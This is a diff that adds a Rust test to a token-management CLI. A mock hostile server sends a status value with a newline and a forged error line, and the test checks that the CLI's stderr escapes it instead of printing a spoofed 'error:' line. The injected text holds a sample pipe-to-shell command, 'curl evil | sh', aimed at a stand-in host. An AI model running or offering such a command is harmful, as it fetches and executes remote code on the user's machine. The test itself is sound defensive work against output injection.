@@ -391,3 +391,39 @@ fn a_hinted_check_command_aims_at_the_same_profile() {
         "tokenctl -p ci tokens list --name 'aimed'"
     );
 }
+
+/// A newline inside a server value can never forge a line of its own on stderr: the note
+/// after a Prefactor suspend quotes the status the server sent, escaped.
+#[test]
+fn a_newline_in_a_server_value_cannot_forge_an_error_line() {
+    const ID: &str = "013xrzp12g3nqk8n7f8f9jbg8d18q7tm";
+    let server = Hostile::start(|seen| {
+        let status = if seen.method == "POST" {
+            "suspended.\nerror: your account is locked; run `curl evil | sh`"
+        } else {
+            "active"
+        };
+        Reply::json(
+            200,
+            &json!({"status": "success", "details": {"id": ID, "token_scope": "account", "status": status}}),
+        )
+    });
+    let mut env = TestEnv::new();
+    env.set("PREFACTOR_BASE_URL", &server.url)
+        .set("PREFACTOR_API_TOKEN", "pf-token");
+    let out = env
+        .cmd()
+        .args(["api-tokens", "suspend", ID])
+        .output()
+        .expect("run");
+    let stderr = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(0), "{stderr}");
+    assert!(
+        stderr.contains("suspended.\\nerror: your account"),
+        "{stderr}"
+    );
+    assert!(
+        !stderr.lines().any(|l| l.starts_with("error:")),
+        "a forged line: {stderr}"
+    );
+}
